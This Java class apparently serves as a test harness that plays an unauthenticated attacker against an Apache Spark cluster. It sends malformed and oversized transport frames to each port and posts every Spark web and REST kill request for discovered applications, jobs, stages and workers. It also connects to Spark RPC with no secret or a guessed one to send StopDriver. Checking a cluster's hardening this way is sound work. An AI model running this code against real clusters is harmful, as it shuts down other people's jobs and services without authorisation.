package org.starling.driver.cli;

import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.spark.SecurityManager;
import org.apache.spark.SparkConf;
import org.apache.spark.rpc.RpcAddress;
import org.apache.spark.rpc.RpcEndpointNotFoundException;
import org.apache.spark.rpc.RpcEndpointRef;
import org.apache.spark.rpc.RpcEnv;
import org.apache.spark.scheduler.cluster.CoarseGrainedClusterMessages;

/**
 * Process of somebody on another host who wants to end a job and knows all ports of its cluster: {@code Stranger HOST PORT…}.
 * Prints what it found on Spark's web pages, and a line that starts with {@link #ADMITTED} for each endpoint that let it in.
 */
public final class Stranger {
    static final String ADMITTED = "admitted by ";
    static final String FOUND = "found application ";

    private static final int PATIENCE_MILLIS = 2000;
    private static final Pattern ID = Pattern.compile("\"(?:id|jobId|stageId)\"\\s*:\\s*\"?([-\\w]+)");

    private final String host;

    private Stranger(String host) {
        this.host = host;
    }

    /** Attacks each port once. */
    public static void main(String[] arguments) {
        Stranger stranger = new Stranger(arguments[0]);
        for (String port : List.of(arguments).subList(1, arguments.length)) {
            stranger.sendNoise(Integer.parseInt(port));
            stranger.kill(Integer.parseInt(port));
            for (boolean guesses : new boolean[] {false, true}) {
                stranger.stopDriver(Integer.parseInt(port), guesses);
            }
        }
        System.exit(0);
    }

    /** Noise, a frame of 240 MB that never ends, and noise as a message of Spark's transport. */
    private void sendNoise(int port) {
        Random random = new Random(port);
        for (int kind = 0; kind < 3; kind++) {
            byte[] noise = new byte[4000];
            random.nextBytes(noise);
            ByteBuffer bytes = ByteBuffer.allocate(noise.length + 13);
            if (kind == 1) {
                bytes.putLong(240L << 20);
            } else if (kind == 2) {
                bytes.putLong(noise.length + 13L).put((byte) 9).putInt(noise.length);
            }
            bytes.put(noise);
            try (Socket socket = new Socket()) {
                socket.connect(new InetSocketAddress(host, port), PATIENCE_MILLIS);
                OutputStream out = socket.getOutputStream();
                out.write(bytes.array(), 0, bytes.position());
            } catch (IOException e) {
                // refused, or closed in the middle
            }
        }
    }

    /** Uses all forms by which Spark's web pages and its REST server end applications, jobs, stages and workers. */
    private void kill(int port) {
        TreeSet<String> forms = new TreeSet<>(List.of(
                "/workers/kill/?host=" + host,
                "/v1/submissions/killall",
                "/jobs/job/kill/?id=0",
                "/stages/stage/kill/?id=0&terminate=true"));
        for (String application : ids(port, "/api/v1/applications")) {
            System.out.println(FOUND + application);
            forms.add("/app/kill/?terminate=true&id=" + application);
            for (String job : ids(port, "/api/v1/applications/" + application + "/jobs")) {
                forms.add("/jobs/job/kill/?id=" + job);
            }
            for (String stage : ids(port, "/api/v1/applications/" + application + "/stages")) {
                forms.add("/stages/stage/kill/?terminate=true&id=" + stage);
            }
        }
        forms.forEach(form -> request(port, "POST", form));
    }

    private List<String> ids(int port, String path) {
        List<String> ids = new ArrayList<>();
        Matcher matcher = ID.matcher(request(port, "GET", path));
        while (matcher.find()) {
            ids.add(matcher.group(1));
        }
        return ids;
    }

    private String request(int port, String method, String path) {
        try {
            HttpURLConnection connection = (HttpURLConnection)
                    URI.create("http://" + host + ":" + port + path).toURL().openConnection();
            connection.setRequestMethod(method);
            connection.setConnectTimeout(PATIENCE_MILLIS);
            connection.setReadTimeout(PATIENCE_MILLIS);
            try (var body = connection.getInputStream()) {
                return new String(body.readAllBytes(), StandardCharsets.UTF_8);
            }
        } catch (IOException e) {
            return ""; // refused, or another protocol
        }
    }

    /** Connects to Spark's RPC without a secret, or with a guessed one, and tells the driver to stop. */
    private void stopDriver(int port, boolean guesses) {
        SparkConf conf = new SparkConf(false)
                .set("spark.rpc.lookupTimeout", PATIENCE_MILLIS + "ms")
                .set("spark.rpc.askTimeout", PATIENCE_MILLIS + "ms")
                .set("spark.network.timeout", PATIENCE_MILLIS + "ms")
                .set("spark.network.auth.rpcTimeout", PATIENCE_MILLIS + "ms")
                .set("spark.rpc.io.maxRetries", "0");
        if (guesses) {
            conf.set("spark.authenticate", "true").set("spark.authenticate.secret", "secret");
        }
        SecurityManager security = new SecurityManager(
                conf, scala.Option.empty(), org.apache.spark.internal.config.package$.MODULE$.AUTH_SECRET_FILE());
        RpcEnv own = RpcEnv.create("stranger", TwoHosts.SECOND_ADDRESS, 0, conf, security, true);
        try {
            for (String endpoint : List.of("CoarseGrainedScheduler", "Executor", "Master", "Worker")) {
                RpcEndpointRef target = own.setupEndpointRef(new RpcAddress(host, port), endpoint);
                System.out.println(ADMITTED + endpoint + " at port " + port);
                target.send(CoarseGrainedClusterMessages.StopDriver$.MODULE$);
            }
        } catch (Exception e) { // Scala's exceptions are not declared
            String answer = e instanceof RpcEndpointNotFoundException ? ADMITTED : "refused at ";
            System.out.println(answer + "port " + port + ": " + e);
        } finally {
            own.shutdown();
        }
    }
}
